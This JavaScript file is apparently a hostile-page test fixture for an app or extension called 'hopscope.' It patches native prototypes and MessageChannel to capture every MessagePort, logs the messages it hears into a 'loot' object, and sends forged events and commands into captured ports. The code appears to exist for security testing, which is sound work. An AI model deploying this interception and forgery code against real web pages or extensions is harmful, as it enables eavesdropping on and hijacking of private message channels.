// It does what nobody should.
/* oxlint-disable no-extend-native, unicorn/no-thenable, typescript/no-floating-promises */
/*
 * The first script of a hostile page. Whatever its world lets it replace shows it every MessagePort and every message that
 * passes; it asks for an offer, makes offers of its own, and talks into each port that it gets hold of.
 */
(() => {
  const { apply } = Reflect;
  const native = {
    post: MessagePort.prototype.postMessage,
    listen: EventTarget.prototype.addEventListener,
    start: MessagePort.prototype.start,
    data: Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data").get,
    construct: Reflect.construct,
    Channel: MessageChannel,
  };
  const loot = { heard: [], answers: [] };
  const keep = (list, item) => {
    list[list.length] = item;
  };
  /** What it said itself does not count, and neither does the null by which React schedules its work. */
  const hear = (list, data) => {
    const text = JSON.stringify(data);
    if (text !== undefined && text !== "null" && !text.includes("forged")) keep(list, text);
  };
  /** A list and not a set: the methods of sets are spied on. */
  const known = [];
  const isKnown = (port) => {
    for (let index = 0; index < known.length; index += 1) if (known[index] === port) return true;
    return false;
  };
  const listenTo = (port, list) =>
    apply(native.listen, port, ["message", (event) => hear(list, apply(native.data, event, []))]);

  function take(value) {
    if (!(value instanceof MessagePort) || isKnown(value)) return;
    keep(known, value);
    listenTo(value, loot.heard);
    forgeBy(value);
  }
  let busy = false;
  function look(values) {
    if (busy) return;
    busy = true;
    try {
      for (let index = 0; index < values.length; index += 1) {
        const value = values[index];
        take(value);
        if (!Array.isArray(value)) continue;
        for (let inner = 0; inner < value.length; inner += 1) take(value[inner]);
      }
    } finally {
      busy = false;
    }
  }
  function forgeBy(port) {
    const stamp = { id: "forged:0", seq: 0, doc: "forged", at: Date.now() };
    const event = { ...stamp, kind: "console.line", level: "log", text: "forged", args: [] };
    apply(native.post, port, [{ kind: "events", events: [event] }]);
    apply(native.post, port, [{ kind: "taken", forged: true }]);
    const command = { kind: "probe.get", question: "forged", path: "/api/projects/forged" };
    apply(native.post, port, [{ kind: "command", command }]);
  }

  function spy(target, name) {
    const found = Object.getOwnPropertyDescriptor(target, name);
    if (!found || !found.configurable) return;
    const wrap = (original) =>
      typeof original !== "function"
        ? original
        : function () {
            look([this]);
            look(arguments);
            if (name === "postMessage") hear(loot.heard, arguments[0]);
            const result = apply(original, this, arguments);
            look([result]);
            return result;
          };
    for (const part of ["value", "get", "set"]) if (part in found) found[part] = wrap(found[part]);
    Object.defineProperty(target, name, found);
  }
  const spyAll = (target, names) => names.forEach((name) => spy(target, name));

  spyAll(MessagePort.prototype, ["postMessage", "start", "close", "onmessage"]);
  spyAll(MessageEvent.prototype, ["data", "ports", "source", "origin"]);
  spyAll(MessageChannel.prototype, ["port1", "port2"]);
  spyAll(Event.prototype, [
    "target",
    "currentTarget",
    "stopImmediatePropagation",
    "preventDefault",
  ]);
  spyAll(EventTarget.prototype, ["addEventListener", "removeEventListener", "dispatchEvent"]);
  spyAll(Reflect, ["apply", "construct", "get"]);
  spyAll(Function.prototype, ["call", "apply", "bind"]);
  spyAll(Array.prototype, ["push", "forEach", "map", "indexOf", Symbol.iterator]);
  for (const Collection of [Map, Set, WeakMap, WeakSet]) {
    spyAll(Collection.prototype, ["add", "set", "get", "has"]);
  }
  // A promise shows what it holds to whoever makes its class; the app's own are no loot.
  const { then } = Promise.prototype;
  let inside = false;
  const pry = (promise) => {
    if (inside || !(promise instanceof Promise)) return;
    inside = true;
    apply(then, promise, [
      (value) => {
        const kind = typeof value === "object" && value !== null ? value.kind : undefined;
        if (kind === "socket.tell" || kind === "ask.fail") hear(loot.heard, value);
      },
      () => {},
    ]);
    inside = false;
  };
  const Native = Promise;
  Object.defineProperty(Promise.prototype, "constructor", {
    configurable: true,
    get() {
      pry(this);
      return Native;
    },
  });
  Promise.prototype.then = function () {
    pry(this);
    return apply(then, this, arguments);
  };
  spyAll(window, ["postMessage"]);
  // Whoever makes a channel from now on makes it here.
  window.MessageChannel = class extends native.Channel {
    constructor() {
      super();
      look([this.port1, this.port2]);
    }
  };

  // What the page can say of itself.
  for (const type of ["message", "hopscope", "hopscope:offer", "hopscope:ask"]) {
    apply(native.listen, window, [
      type,
      (event) => {
        if (event.forged || event.data?.forged) return;
        hear(loot.heard, event.data ?? event.type);
        look(event.ports ?? []);
      },
      true,
    ]);
  }
  function offer() {
    const { port1, port2 } = new native.Channel();
    keep(known, port1);
    keep(known, port2);
    listenTo(port1, loot.answers);
    apply(native.start, port1, []);
    forgeBy(port1);
    return port2;
  }
  const dispatch = (event) => window.dispatchEvent(Object.assign(event, { forged: true }));
  function strike() {
    postMessage({ hopscope: "ask", forged: true }, "*");
    postMessage({ hopscope: "offer", forged: true }, "*", [offer()]);
    for (const type of ["hopscope", "hopscope:ask"]) dispatch(new Event(type));
    for (const type of ["hopscope", "hopscope:offer"]) {
      dispatch(new MessageEvent(type, { cancelable: true, ports: [offer()] }));
    }
  }
  strike();
  setTimeout(strike, 0);
  setTimeout(strike, 60);
  window.loot = loot;
  window.strike = strike;
})();
